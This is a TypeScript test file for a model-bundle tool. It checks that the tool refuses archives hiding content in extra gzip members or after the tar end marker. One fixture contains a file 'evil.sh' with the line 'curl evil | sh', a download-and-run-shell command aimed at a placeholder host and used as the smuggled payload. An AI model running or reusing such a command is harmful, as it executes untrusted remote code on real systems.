import { readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { makeTempDir, removeTempDir } from '@mlpack/test-utils';
import { handMadeTar, manifestBytes, manifestFor } from './__fixtures__/hand-made-archive.js';
import type { RawEntry } from './__fixtures__/hand-made-archive.js';
import { unbundle } from './unbundle.js';
import { verifyBundle } from './verify-bundle.js';

/**
 * Hidden content: bytes other tools (`tar -tizf`, `zcat`) see but mlpack's tar reader would not.
 * Every variant is generated here from a good archive.
 */
const CONFIG = '{"model_type":"bert"}\n';
const MODEL = Buffer.from('not really onnx');
const files = { 'config.json': CONFIG, 'onnx/model.onnx': MODEL };
const entries: RawEntry[] = [
  { path: 'mlpack.json', body: manifestBytes(manifestFor(files)) },
  { path: 'config.json', body: CONFIG },
  { path: 'onnx/', type: 'Directory' },
  { path: 'onnx/model.onnx', body: MODEL },
];
const goodTar = handMadeTar(entries);
const evilTar = handMadeTar([{ path: 'evil.sh', body: 'curl evil | sh\n' }]);

let root: string;
beforeEach(async () => {
  root = await makeTempDir('mlpack-gzip-member-');
});
afterEach(async () => {
  await removeTempDir(root);
});

async function refused(bytes: Buffer, code: string): Promise<void> {
  const bundle = join(root, 'b.tar.gz');
  await writeFile(bundle, bytes);
  await expect(verifyBundle(bundle, { inference: false })).rejects.toMatchObject({ code });
  await expect(unbundle(bundle, { out: join(root, 'out') })).rejects.toMatchObject({ code });
  expect(await readdir(root)).toEqual(['b.tar.gz']);
}

describe('one gzip member, nothing after the tar end-of-archive marker', () => {
  it('the good archive passes', async () => {
    const bundle = join(root, 'b.tar.gz');
    await writeFile(bundle, gzipSync(goodTar));
    expect((await verifyBundle(bundle, { inference: false })).ok).toBe(true);
  });
  it('a second gzip member holding a tar entry → UNBUNDLE_TRAILING_DATA', async () => {
    await refused(Buffer.concat([gzipSync(goodTar), gzipSync(evilTar)]), 'UNBUNDLE_TRAILING_DATA');
  });
  it('an empty second gzip member → UNBUNDLE_TRAILING_DATA', async () => {
    await refused(Buffer.concat([gzipSync(goodTar), gzipSync(Buffer.alloc(0))]), 'UNBUNDLE_TRAILING_DATA');
  });
  it('zero bytes appended after the member (gunzip ignores them) → UNBUNDLE_TRAILING_DATA', async () => {
    await refused(Buffer.concat([gzipSync(goodTar), Buffer.alloc(100)]), 'UNBUNDLE_TRAILING_DATA');
  });
  it('entries after the end-of-archive marker, inside the member → UNBUNDLE_TRAILING_DATA', async () => {
    await refused(gzipSync(Buffer.concat([goodTar, evilTar])), 'UNBUNDLE_TRAILING_DATA');
  });
  it('zero padding after the marker (a 10240-byte tar record) → UNBUNDLE_TRAILING_DATA', async () => {
    await refused(gzipSync(Buffer.concat([goodTar, Buffer.alloc(8192)])), 'UNBUNDLE_TRAILING_DATA');
  });
  it('a damaged trailer CRC → UNBUNDLE_CORRUPT', async () => {
    const gz = gzipSync(goodTar);
    gz[gz.length - 8] = gz[gz.length - 8]! ^ 0xff;
    const bundle = join(root, 'b.tar.gz');
    await writeFile(bundle, gz);
    await expect(verifyBundle(bundle, { inference: false })).rejects.toMatchObject({ code: 'UNBUNDLE_CORRUPT' });
  });
  it('a gzip header with a file name (FNAME) is parsed, and still one member', async () => {
    const gz = gzipSync(goodTar);
    const named = Buffer.concat([gz.subarray(0, 3), Buffer.from([0x08]), gz.subarray(4, 10), Buffer.from('bundle.tar\0'), gz.subarray(10)]);
    const bundle = join(root, 'b.tar.gz');
    await writeFile(bundle, named);
    expect((await verifyBundle(bundle, { inference: false })).ok).toBe(true);
    expect((await readFile(bundle)).length).toBe(gz.length + 11);
  });
});
